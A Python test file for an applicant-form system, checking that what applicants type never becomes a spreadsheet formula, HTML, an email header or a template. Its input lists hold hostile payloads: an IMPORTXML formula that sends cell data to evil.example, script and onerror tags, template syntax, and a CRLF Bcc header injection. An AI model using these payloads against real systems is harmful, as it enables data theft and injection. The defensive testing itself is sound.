"""Law 7: what an applicant types never becomes a formula, markup, a header or a template."""

import logging
import re

import pytest

from tests.world import FORM, World

LEARN = "What do you hope to learn?"
ANSWERS = [
    "👩‍💻🏳️‍🌈 نعم",
    "שלום \u202eevil\u202c",
    '=IMPORTXML("https://evil.example/?"&B2, "//a")',
    "=1+1",
    "+1-1",
    "@SUM(1)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }} {% for x in y %}",
    "one\r\nBcc: everyone@example.org\r\n\r\ntwo",
    "nul\x00nul",
    "02139",
    "8085807e40000000",
    "\x1b[31mred\x07",
]


def test_hostile_answers_arrive_as_text_everywhere(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    for number, answer in enumerate(ANSWERS):
        mail = f"p{number}@example.org"
        named = {"Your name": f"{answer}", "Email": mail, "What field do you work in?": answer}
        world.apply(f"p{number}", **{LEARN: answer} | named)
    world.work()

    shown = {row["Email"]: row for row in world.rows("Shortlist")}
    for number, answer in enumerate(ANSWERS):
        name = shown[f"p{number}@example.org"]["Name"]
        told = re.sub(r"[\x00\x07\x1b]", "", " ".join(answer.split()))
        assert name == told
    letters = world.mails()
    assert len(letters) == len(ANSWERS)
    for letter in letters:
        assert not any(p in letter["html"] for p in ("<script", "<img src=x", "49 {%"))
        assert "\n" not in letter["subject"]
        assert not any(c in letter["text"] + letter["html"] for c in "\x00\x1b\x07\u202e")
        assert set(letter["body"]["personalizations"][0]) <= {"to", "custom_args", "headers"}
        assert [to["email"] for to in letter["body"]["personalizations"][0]["to"]] == [
            letter["recipient"]
        ]
        assert "\n" not in "".join(f"{name}{value}" for name, value in letter["headers"])
    logged = caplog.text
    assert not [answer for answer in ANSWERS if len(answer) > 6 and answer in logged]


def test_an_answer_is_never_written_as_a_formula(world: World) -> None:
    world.apply("ana", **{"Your name": '=IMPORTXML("https://evil.example/","//a")'})
    world.work()
    world.decide("Accept", '=IMPORTXML("https://evil.example/","//a")')
    world.work()

    for title in ("Shortlist", "Outbox", "Activity"):
        place = f"/v4/spreadsheets/{world.workbook}/values/'{title}'?valueRenderOption=FORMULA"
        raw = world.wire.call("get", place)["values"]
        assert raw == world.values(title)
    cells = [cell for row in world.rows("Activity") for cell in row.values()]
    assert any("=IMPORTXML" in str(cell) for cell in cells)
    data = world.wire.call(
        "get", f"/v4/spreadsheets/{world.workbook}?includeGridData=true&ranges=Shortlist"
    )
    assert "formulaValue" not in str(data)


def test_a_whole_program_bears_names_of_any_sort(world: World) -> None:
    names = ["<b>Ana</b>", "{{ben}}", "Cleo\r\nX: y", "دانا", "=Eve()"]
    for number, name in enumerate(names):
        world.apply(f"p{number}", **{"Your name": name})
    world.apply("mia", form="Form Responses 2", **{"Your name": "<i>Mia</i>"})
    world.work()
    for row in world.rows("Shortlist"):
        world.type("Shortlist", {"Key": row["Key"]}, "Decision", "Accept")
    world.approve()
    for name in ("p0", "p1", "p2", "p3", "p4", "mia"):
        page = world.page(name)
        shown = world.browser().get(page).text
        assert "<b>Ana" not in shown
        assert "<i>Mia" not in shown
        world.browser().post(page, data={"answer": "take"})
    world.work()
    for row in world.rows("Pairs"):
        world.type("Pairs", {"Key": row["Key"]}, "Decision", "Introduce")
    world.approve()

    assert {row["Place"] for row in world.rows("Cohort")} == {"Confirmed"}
    introductions = [m for m in world.mails("mia") if "@example.org" in m["text"]]
    assert introductions
    assert not any("<i>Mia" in m["html"] or "<b>Ana" in m["html"] for m in world.mails())


def test_a_text_as_long_as_a_cell_is_shortened_in_letters_and_breaks_nothing(world: World) -> None:
    essay = "wörd " * 9_998 + "the end..."
    world.apply("ana", **{LEARN: essay, "Your name": essay})
    world.apply("ben")

    world.work()

    (letter,) = world.mails("ana")
    assert "shortened here; we have the whole answer, 50,000 characters" in letter["text"]
    assert len(letter["subject"]) <= 200
    assert len(world.mails("ben")) == 1
    world.decide("Accept", world.rows("Shortlist")[0]["Name"])
    world.work()
    quiet = world.everything()
    world.work()
    assert world.everything() == quiet


def test_a_question_may_be_titled_with_anything(world: World) -> None:
    titles = ["<script>", "{{ 7*7 }}", "=A1", "Why\r\nso?", "👩‍💻", "x" * 50_000, "?"]
    world.add_form(
        FORM, ("Email", *titles), [world.now, "ana@example.org", *("yes" for _ in titles)]
    )

    world.work()

    (letter,) = world.mails("ana")
    assert "<script>" not in letter["html"]
    assert "{{ 7*7 }}" in letter["text"]
    assert len(world.rows("Questions")) == 1 + len(titles)
    before = world.everything()
    world.work()
    assert world.everything() == before
